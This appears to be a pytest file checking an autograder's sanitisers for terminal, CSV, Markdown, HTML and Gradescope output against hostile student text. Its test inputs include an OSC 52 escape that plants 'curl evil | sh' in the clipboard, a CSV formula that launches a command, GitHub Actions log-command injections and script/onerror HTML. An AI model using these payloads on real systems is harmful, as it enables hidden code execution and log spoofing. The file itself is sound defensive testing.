"""One sanitiser per output type (autograder/outputs/sanitise.py), on hostile text.

The end-to-end attacks through `grade` are in test_output_attacks.py."""
import csv
import io

from autograder.outputs import feedback, gradebook, sanitise

CLEAR_SCREEN = '\x1b[2J\x1b[H'
CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07'      # OSC 52: set the clipboard
FAKE_LINE = '\n\x1b[32malice: 18/18\x1b[0m'
HOSTILE = ('boom' + CLEAR_SCREEN + CLIPBOARD + FAKE_LINE + '\x9b31m\x1bP1$r\x1b\\'
           '\r\x08\u202eevil\u2066\u200b\ufeff\udcff')


def test_terminal_keeps_the_words_and_drops_every_control():
    text = sanitise.terminal(HOSTILE)
    assert text == 'boom\nalice: 18/18evil\ufffd'
    assert sanitise.terminal(HOSTILE, one_line=True) == 'boom alice: 18/18evil\ufffd'
    assert sanitise.terminal('tab\there') == 'tab here'
    # An unterminated string sequence takes the rest of its value, never more.
    assert sanitise.terminal('a\x1b]0;title') == 'a'
    # GitHub Actions runs a log line starting with '::' (after blanks) as a command.
    assert sanitise.terminal('x\n  ::add-mask::alice\n::error::18/18 x::y') == (
        'x\n  : :add-mask::alice\n: :error::18/18 x::y')
    # The runner also runs the older form '##[command]data' found anywhere in a
    # line (actions/runner ActionCommand.TryParse looks it up with IndexOf).
    for text in ('x ##[add-mask]alice', '##[error]18/18', 'a###[stop-commands]t',
                 'a#\x1b[0m#[error]x', 'a#\u200b#[error]x'):
        assert '##[' not in sanitise.terminal(text), text
        assert '##[' not in sanitise.terminal(text, one_line=True), text
    assert sanitise.terminal('x ##[error]y') == 'x # #[error]y'


def test_terminal_table_indents_every_line_but_the_submission():
    result = {'submission': 'mallory' + CLEAR_SCREEN, 'score': 0, 'max_score': 1,
              'problem': '', 'warnings': [], 'checks': [
                  {'name': 'loss', 'score': 0, 'max_score': 1, 'feedback': HOSTILE}]}
    lines = feedback.table([result]).splitlines()
    assert lines[0] == 'mallory: 0 / 1'
    assert all(line.startswith(' ') for line in lines[1:] if line)
    assert not any('\x1b' in line or '\x07' in line for line in lines)


def test_csv_cells_that_start_like_formulas_are_text():
    for text in ('=HYPERLINK("x")', '+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '\u200b=1',
                 ' =1'):
        cell = sanitise.csv_cell(text)
        assert cell.startswith("'") and cell.lstrip("'").lstrip()[:1] in '=+-@', cell
    assert sanitise.csv_cell('alice') == 'alice' and sanitise.csv_cell(2.5) == 2.5
    text = gradebook.csv_text([('=cmd|\' -c calc\'!A0', {'score': 1, 'max_score': 2,
                                                         'checks': []})], [], 'a')
    [_, row] = list(csv.reader(io.StringIO(text)))
    assert row[3] == "'=cmd|' -c calc'!A0" and row[7] == '1'


def test_markdown_has_no_html_and_no_structure_from_the_student():
    text = sanitise.markdown_text('<script>x</script>\n| a | b |\n# h\n1. i\n- l\n> q\n'
                                  '___\n    code\n```\n[link](http://x)')
    lines = text.split('  \n')
    assert lines[0] == '&lt;script&gt;x&lt;/script&gt;'
    assert lines[1] == r'\| a \| b \|'
    assert lines[2:8] == [r'\# h', r'1\. i', r'\- l', '&gt; q', r'\___', 'code']
    assert lines[8] == r'\`\`\`' and lines[9] == r'\[link\](http://x)'
    assert sanitise.markdown_text('::error::x') == r'\::error::x'
    assert sanitise.markdown_cell('a|b\n<img onerror=x>') == r'a\|b &lt;img onerror=x&gt;'


def test_step_summary_is_cut_below_githubs_limit():
    small = '# ok\n'
    assert sanitise.step_summary(small) == small
    big = ('| row |\n' * (sanitise.STEP_SUMMARY_LIMIT // 4))
    cut = sanitise.step_summary(big)
    assert len(cut.encode('utf-8')) <= sanitise.STEP_SUMMARY_LIMIT
    assert cut.startswith('| row |\n') and 'cut here' in cut


def test_html_escapes_and_drops_controls():
    assert sanitise.html_text('<img src=x onerror="a">' + CLEAR_SCREEN) == (
        '&lt;img src=x onerror=&quot;a&quot;&gt;')


def test_notebook_text_keeps_lines_only():
    assert sanitise.notebook_output(HOSTILE) == 'boom\nalice: 18/18evil\ufffd'


def test_gradescope_output_is_inert_markdown_line_by_line():
    assert sanitise.gradescope_output(HOSTILE) == 'boom  \nalice: 18/18evil\ufffd'
    assert sanitise.gradescope_output('in <module> *x* [l](u)') == (
        'in &lt;module&gt; \\*x\\* \\[l\\](u)')
    assert sanitise.GRADESCOPE_FORMATS['output_format'] == 'md'


def test_outputs_import_no_layer_above_them():
    """submissions/, report/, platforms/ and commands/ use outputs/; never the reverse."""
    import ast
    import os
    folder = os.path.dirname(sanitise.__file__)
    above = ('submissions', 'report', 'platforms', 'commands', 'grading', 'cli')
    for name in sorted(os.listdir(folder)):
        if not name.endswith('.py'):
            continue
        with open(os.path.join(folder, name)) as handle:
            tree = ast.parse(handle.read())
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom):
                parts = (node.module or '').split('.')
                # from ..X (the autograder package) or from autograder.X
                top = parts[0] if node.level == 2 else (
                    parts[1] if node.level == 0 and parts[0] == 'autograder' and len(parts) > 1
                    else None)
                if node.level == 2 and node.module is None:     # from .. import X
                    top = next((a.name for a in node.names if a.name in above), None)
                assert top not in above, (name, node.module)

